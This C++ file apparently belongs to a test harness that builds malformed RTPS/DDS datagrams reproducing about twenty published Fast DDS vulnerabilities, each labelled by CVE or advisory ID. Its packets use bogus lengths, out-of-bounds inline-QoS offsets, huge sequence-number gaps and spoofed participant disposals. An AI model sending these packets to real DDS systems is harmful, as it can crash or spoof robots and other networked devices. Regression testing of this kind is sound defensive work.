// Published faults of Fast DDS that any datagram can reach.
#include "faults/Datagrams.h"

namespace Faults
{

using namespace RtpsBytes;

namespace
{

constexpr std::uint8_t HasInlineQos = 0x03;
// Announcements and requests of types, of XTypes 1.3.
constexpr std::uint16_t TypeInformation = 0x0075;
constexpr EntityId TypeRequestsWriter = 0x000300c3;
constexpr EntityId PublicationsReader = 0x000003c7;
constexpr EntityId PublicationsAnnouncedHere = 0x000003c2;
// Near the largest number that there is, 2^63 - 1.
constexpr std::int64_t HighestNumbers = 0x5300000000000001;
constexpr std::uint16_t PropertyList = 0x0059;

Bytes ParticipantWith(const Bytes &more)
{
    return Message(Data, DataBody(2, Announced(more), ParticipantWriter), HasData);
}

Bytes WriterWith(const Bytes &more)
{
    return Message(
        Data,
        DataBody(1,
                 List({Parameter(0x005a, Guid(Sender, UserWriter)), Parameter(0x0005, Text("Pose")),
                       Parameter(0x0007, Text("Uav::Pose")), more}),
                 PublicationsWriter, PublicationsReader),
        HasData);
}

// Fragments of the first sample of the writer of WriterOfFragments.
Bytes Fragments(std::uint16_t size, std::uint32_t whole, std::size_t bytes)
{
    const auto count = static_cast<std::uint16_t>((bytes + size - 1) / size);
    return Message(DataFrag, FragmentBody(1, count, size, whole, bytes));
}

// A gap of the writer of endpoints, which every participant listens to.
Bytes Gapped(std::int64_t start, std::int64_t base)
{
    return Message(Gap, Join({Ids(PublicationsReader, PublicationsAnnouncedHere), Sequence(start),
                              Sequence(base), Bits(0)}));
}

}  // namespace

Bytes Announced(const Bytes &more)
{
    return List({Parameter(0x0015, {2, 3, 0, 0}), Parameter(0x0016, {1, 15, 0, 0}),
                 Parameter(0x0050, Guid(Sender, ParticipantEntity)),
                 Parameter(0x0002, Join({U32(20), U32(0)})),
                 Parameter(0x0032, Join({U32(1), U32(9), Bytes(12), {127, 0, 0, 1}})),
                 Parameter(0x0031, Join({U32(1), U32(9), Bytes(12), {127, 0, 0, 1}})),
                 Parameter(0x0058, U32(BuiltinEndpoints)), more});
}

Bytes Announcement()
{
    return Message(Data, DataBody(1, Announced({}), ParticipantWriter), HasData);
}

// The name of the property says that it has 64 kB; 8 bytes follow.
Bytes PropertyLongerThanItsList()
{
    return ParticipantWith(Parameter(PropertyList, Join({U32(1), U32(0x10000), Bytes(8, 'x')})));
}

// The list says that it has 65535 properties and has one, whose value is nearly 4 GB long.
Bytes PropertiesThatAreNotThere()
{
    return ParticipantWith(
        Parameter(PropertyList, Join({U32(0xffff), Text("name"), U32(0xfffffffc), Bytes(4, 'x')})));
}

// The description of a type begins with a length of 4 GB, which Fast CDR refuses by an exception.
Bytes DescriptionOfATypeThatIsNone()
{
    return WriterWith(Parameter(TypeInformation, Join({U32(0xffffffff), Bytes(12, 0xff)})));
}

// A sample of the topic of requests for types, which has an encapsulation that Fast CDR does not know.
Bytes RequestForTypesThatIsNone()
{
    return Message(Data, DataBody(1, Join({{0xff, 0xff, 0, 0}, Bytes(24, 0xff)}), TypeRequestsWriter),
                   HasData);
}

// Both numbers of the heartbeat are negative.
Bytes HeartbeatOfNegativeNumbers()
{
    return Message(Heartbeat, HeartbeatBody(-5, -9, 1, PublicationsWriter));
}

// Samples have numbers from 1 on.
Bytes GapFromNumberZero()
{
    return Gapped(0, 0);
}

// The first number behind the gap is below the gap's first.
Bytes GapThatEndsBeforeItBegins()
{
    return Gapped(9, 2);
}

// The offset of the inline QoS is 37,392 bytes, in a submessage of 24.
Bytes SampleWithInlineQosOutside()
{
    constexpr std::uint8_t Flags = 0x17;  // as described: inline QoS, data, and one without a meaning here
    return Message(Data, Join({{0, 0, 0x10, 0x92}, Ids(0, ParticipantWriter), Sequence(2), {1, 0, 0, 0}}),
                   Flags);
}

// The same in a fragment.
Bytes FragmentWithInlineQosOutside()
{
    return Message(DataFrag,
                   Join({{0, 0, 0x1c, 0x92},
                         Ids(PublicationsReader, PublicationsWriter),
                         Sequence(1),
                         U32(1),
                         U16(1),
                         U16(64),
                         U32(64),
                         {1, 0, 0, 0}}),
                   HasInlineQos);
}

// The only parameter of the inline QoS is 256 bytes long and ends in the padding behind the submessage: what
// is left for the sample is a negative size.
Bytes SampleWithInlineQosBeyondItsEnd()
{
    constexpr std::uint8_t Pad = 0x01;
    constexpr std::uint8_t QosAndData = 0x07;
    return Join({Message(Data,
                         Join({{0, 0, 16, 0},
                               Ids(PublicationsReader, PublicationsWriter),
                               Sequence(1),
                               U16(0x0029),
                               U16(256)}),
                         QosAndData),
                 Submessage(Pad, Join({Bytes(252), {1, 0, 0, 0}, Bytes(64)}))});
}

// The gap is 2^39 numbers wide: the vendor notes each of them.
Bytes GapOfBillions()
{
    return Gapped(2, std::int64_t{1} << 39);
}

// Heartbeats of a discovery writer whose first number is 2^39 and rises: all before it are lost, says the
// writer, and the vendor steps through them.
std::vector<Bytes> RisingHeartbeats()
{
    constexpr std::uint32_t Count = 12;
    std::vector<Bytes> all = {Announcement(), HonestHeartbeat()};
    for (std::uint32_t i = 0; i < Count; ++i)
    {
        const std::int64_t first = (std::int64_t{1} << 39) + i;
        all.push_back(Message(Heartbeat, HeartbeatBody(first, first, i + 2, PublicationsWriter)));
    }
    return all;
}

// A disposal of the participant, in plain: anybody can send it in another's name.
Bytes Goodbye()
{
    constexpr std::uint8_t OnlyInlineQos = 0x03;
    return Message(Data,
                   DataBody(3,
                            Join({Parameter(0x0070, Guid(Sender, ParticipantEntity)),
                                  Parameter(0x0071, {0, 0, 0, 3}),
                                  {1, 0, 0, 0}}),
                            ParticipantWriter),
                   OnlyInlineQos);
}

// The name of the partition has no zero byte at its end.
Bytes PartitionWithoutAnEnd()
{
    return WriterWith(Parameter(0x0029, Join({U32(1), U32(8), Bytes(8, 'x')})));
}

// The set of numbers has 2^31 bits; 256 is the most that a set may have.
Bytes AcknowledgementOfTooManyBits()
{
    return Message(AckNack, Join({Ids(PublicationsReader, PublicationsWriter), Sequence(1), U32(0x80000000),
                                  Bytes(64, 0xff), U32(1)}));
}

Bytes HonestHeartbeat()
{
    return Message(Heartbeat, HeartbeatBody(1, 1, 1, PublicationsWriter));
}

// A million samples, of a writer that has written one.
Bytes HeartbeatFarAhead()
{
    return Message(Heartbeat, HeartbeatBody(1'000'000, 1'000'000, 2, PublicationsWriter));
}

// The gap begins at the number that the reader awaits, so the vendor steps through all of it.
Bytes GapFromTheAwaitedNumber()
{
    return Gapped(1, 200'000'000);
}

Bytes GapToTheHighestNumbers()
{
    return Gapped(1, HighestNumbers);
}

Bytes SampleOfTheHighestNumbers()
{
    return Message(Data,
                   DataBody(HighestNumbers,
                            List({Parameter(0x005a, Guid(Sender, UserWriter)),
                                  Parameter(0x0005, Text("Pose")), Parameter(0x0007, Text("Uav::Pose"))}),
                            PublicationsWriter, PublicationsReader),
                   HasData);
}

// All numbers up to that sample's are lost, says the writer: the vendor steps through them.
Bytes HeartbeatBehindThatSample()
{
    return Message(Heartbeat, HeartbeatBody(HighestNumbers + 1, HighestNumbers + 2, 1, PublicationsWriter));
}

// The reader's acknowledgement would name the number behind it, which has no form. The vendor asserts that.
Bytes HeartbeatOfTheLastNumber()
{
    constexpr std::int64_t Last = 0x7ffffffffffffffe;
    return Message(Heartbeat, HeartbeatBody(Last, Last, 1, PublicationsWriter));
}

// On the topic that vendor_faults_test.py reads.
Bytes WriterOfFragments()
{
    return Message(
        Data,
        DataBody(1,
                 List({Parameter(0x005a, Guid(Sender, UserWriter)), Parameter(0x0005, Text("State")),
                       Parameter(0x0007, Text("std_msgs::msg::dds_::String_")),
                       Parameter(0x001a, Join({U32(2), U32(0), U32(0)}))}),
                 PublicationsWriter, PublicationsReader),
        HasData);
}

// The last fragment has one byte. The vendor writes a mark of four into the place of each.
Bytes FragmentsWhoseTailIsShort()
{
    return Fragments(64, 65, 65);
}

Bytes FragmentsShorterThanTheVendorsMark()
{
    return Fragments(2, 65, 65);
}

// The only parameter of the inline QoS is 256 bytes long and ends behind the submessage.
Bytes FragmentWithInlineQosBeyondItsEnd()
{
    constexpr std::uint8_t Pad = 0x01;
    return Join(
        {Message(DataFrag, Join({FragmentBody(1, 1, 64, 64, 0), U16(0x0029), U16(256)}), HasInlineQos),
         Submessage(Pad, Join({Bytes(252), {1, 0, 0, 0}, Bytes(64)}))});
}

// The sample has one fragment of 60000 bytes, says the submessage. It has 8.
Bytes LastFragmentWithoutItsBytes()
{
    return Fragments(60000, 60000, 8);
}

std::vector<Fault> FastDdsFaults()
{
    const auto of = [](const char *name, std::vector<Bytes> datagrams)
    { return Fault{.Name = name, .Vendor = "fastdds", .Datagrams = std::move(datagrams)}; };
    return {
        of("CVE-2023-39946", {PropertyLongerThanItsList()}),
        of("CVE-2023-39947", {PropertiesThatAreNotThere()}),
        of("CVE-2023-39945", {Announcement(), DescriptionOfATypeThatIsNone(), RequestForTypesThatIsNone()}),
        of("CVE-2023-39949", {Announcement(), HeartbeatOfNegativeNumbers()}),
        of("CVE-2023-39534", {Announcement(), GapFromNumberZero(), GapThatEndsBeforeItBegins()}),
        of("CVE-2023-42459", {SampleWithInlineQosOutside()}),
        of("CVE-2023-50716", {Announcement(), FragmentWithInlineQosOutside()}),
        of("CVE-2024-28231", {Announcement(), SampleWithInlineQosBeyondItsEnd()}),
        of("CVE-2025-64438", {Announcement(), GapOfBillions()}),
        of("CVE-2025-65016", RisingHeartbeats()),
        of("CVE-2023-50257", {Announcement(), Goodbye()}),
        of("issue-6437", {Announcement(), PartitionWithoutAnEnd()}),
        of("issue-1337", {Announcement(), AcknowledgementOfTooManyBits()}),
        of("issue-3931", {Announcement(), HonestHeartbeat(), HeartbeatFarAhead()}),
        of("GHSA-f4hw-9j9g-j8xj", {Announcement(), GapFromTheAwaitedNumber(), GapToTheHighestNumbers()}),
        of("GHSA-57rp-jm6r-xjw5", {Announcement(), SampleOfTheHighestNumbers(), HeartbeatBehindThatSample()}),
        of("GHSA-6m2p-wjv5-386v", {Announcement(), HeartbeatOfTheLastNumber()}),
        of("CVE-2025-62799", {Announcement(), WriterOfFragments(), FragmentsWhoseTailIsShort(),
                              FragmentsShorterThanTheVendorsMark()}),
        of("CVE-2025-65865", {Announcement(), WriterOfFragments(), FragmentWithInlineQosBeyondItsEnd()}),
        of("CVE-2026-22590", {Announcement(), WriterOfFragments(), LastFragmentWithoutItsBytes()}),
    };
}

}  // namespace Faults
